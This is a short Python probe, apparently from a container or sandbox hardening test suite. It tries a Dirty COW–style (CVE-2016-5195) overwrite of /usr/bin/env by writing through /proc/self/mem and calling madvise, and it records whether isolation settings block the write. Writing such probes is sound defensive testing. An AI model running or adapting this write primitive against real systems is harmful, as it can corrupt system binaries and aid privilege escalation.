# tries: writes into a file of the image by its own private copy of it in memory
# stopped by: read_only, user_namespace
# like: CVE-2016-5195

import mmap
path = "/usr/bin/env"
before = read(path, 64)
file = os.open(path, os.O_RDONLY)
private = mmap.mmap(file, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
_libc.mmap.restype = _ctypes.c_void_p
address = _libc.mmap(None, _ctypes.c_size_t(4096), 1, 2, file, _ctypes.c_long(0))
memory = os.open("/proc/self/mem", os.O_RDWR)
for _ in range(200):
    try:
        os.pwrite(memory, b"FUMEHOOD", address)
    except OSError:
        pass
    _libc.madvise(_ctypes.c_void_p(address), _ctypes.c_size_t(4096), 4)
if read(path, 64) != before:
    got("wrote", path)
attempt("a shared writable mapping", lambda: mmap.mmap(file, 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE))
